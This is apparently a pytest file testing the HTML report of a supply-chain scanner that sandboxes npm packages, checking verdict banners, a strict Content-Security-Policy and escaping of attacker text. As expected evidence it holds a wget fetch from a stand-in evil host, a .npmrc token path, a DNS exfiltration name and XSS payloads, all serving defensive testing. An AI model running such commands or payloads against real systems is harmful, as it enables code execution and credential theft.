"""HTML report: content, escaping of attacker-controlled text, and its Content-Security-Policy."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest
from report_dom import Page
from report_samples import PAYLOADS, clean_result, findings_result, hostile_result, inconclusive_result

from tracehound.report import render


def test_findings_page_content():
    html = render(findings_result(), "html")
    page = Page(html)
    text = page.all_text()
    banner = page.find("header", id="verdict")
    assert banner and banner[0]["class"] == "banner verdict-findings"
    assert "Findings" in text and "examples/shop-frontend" in text
    for name in ("evil-postinstall@1.0.3", "lodahs@4.17.21"):
        assert name in text
    assert "left-pad@1.3.0" not in text.split("Honeytoken hits")[0]  # a clean package is not a finding
    for rule in ("Unexpected outbound connection destination", "Honeytoken exfiltrated",
                 "DNS query with encoded data", "Launch shell from package code", "Process survived phase end"):
        assert rule in text
    # evidence
    assert "wget -qO- https://evil.example.com/x.sh" in text
    assert "/home/tracehound/.npmrc" in text
    assert "tok=bnBtX1RPS0VO" in text
    assert "npm_token" in text
    # network: DNS, sinkholed and allowed traffic
    assert "aGVsbG8td29ybGQ.x7f3.exfil.example" in text
    assert "CONNECT registry.npmjs.org:443 HTTP/1.1" in text
    assert text.count("sinkholed") >= 2 and "allowed" in text
    # phases: table and process trees, with the alerting processes highlighted
    assert "npm rebuild --foreground-scripts" in text
    suspicious = [a for t, a in page.tags if t == "li" and "sus" in (a.get("class") or "").split()]
    assert len(suspicious) == 6  # pids 3104, 3106, 3110 (install); 4100, 4201, 4242 (import)
    # tools and ruleset
    assert "9f2c4e1b7a8d3f60c5b2e9a1d4f7c3b8e6a2d9f1c4b7e0a3d6f9c2b5e8a1d4f7" in text
    assert "v18.19.0" in text
    # timeline: one chart, every phase a bar, every alert and the honeytoken hit a mark
    assert len(page.find("svg")) == 1
    assert len([a for t, a in page.tags if t == "rect" and "bar" in (a.get("class") or "")]) == 3
    assert len([a for t, a in page.tags if t == "circle"]) == 7


def test_inconclusive_reasons_are_in_the_banner():
    page = Page(render(inconclusive_result(), "html"))
    assert page.find("header", id="verdict")[0]["class"] == "banner verdict-inconclusive"
    text = page.all_text()
    assert "Why this scan is inconclusive" in text
    banner_text = text.split("Findings (")[0]
    assert "install phase timed out after 600 s" in banner_text
    assert "312 events were lost during install (capture buffer overflow)" in banner_text
    assert "NOT a clean result" in banner_text


def test_clean_page():
    page = Page(render(clean_result(), "html"))
    assert page.find("header", id="verdict")[0]["class"] == "banner verdict-clean"
    text = page.all_text()
    assert "No package triggered a rule." in text
    assert "No planted secret was seen leaving the sandbox." in text


def test_no_script_and_a_strict_csp():
    html = render(findings_result(), "html")
    page = Page(html)
    assert not page.find("script")
    assert not page.find("link") and not page.find("img") and not page.find("iframe")
    metas = page.find("meta")
    assert metas[0] == {"charset": "utf-8"}
    csp = metas[1]
    assert csp["http-equiv"] == "Content-Security-Policy"
    policy = dict(p.strip().split(" ", 1) for p in csp["content"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == "'none'"
    # the only stylesheet allowed is the page's own, by hash
    (style,) = page.styles
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy["style-src"] == f"'sha256-{digest}'"
    # no inline style attributes (the CSP would block them) and no links out of the page
    assert not [a for _, a in page.tags if "style" in a]
    assert all((a.get("href") or "#").startswith("#") for _, a in page.tags)


def test_render_is_deterministic():
    assert render(findings_result(), "html") == render(findings_result(), "html")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_attacker_text_renders_inert(payload):
    html = render(hostile_result(), "html")
    if "<" in payload:
        assert payload not in html  # markup is never emitted raw
    page = Page(html)
    assert payload in page.all_text()  # but shown, as text
    assert not page.find("script")
    assert not page.find("img")
    assert not [a for t, a in page.tags if t == "svg" and "onload" in a]
    assert not [a for _, a in page.tags if any(k.startswith("on") for k in a)]
    assert all((a.get("href") or "#").startswith("#") for _, a in page.tags)


def test_escaping_covers_every_field_kind():
    html = render(hostile_result(), "html")
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt;"
    # target, reason, rule, command, payload excerpt, honeytoken excerpt, stdout, tool version key
    assert html.count(escaped) >= 8
    assert not re.search(r"<\s*script", html, flags=re.I)
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
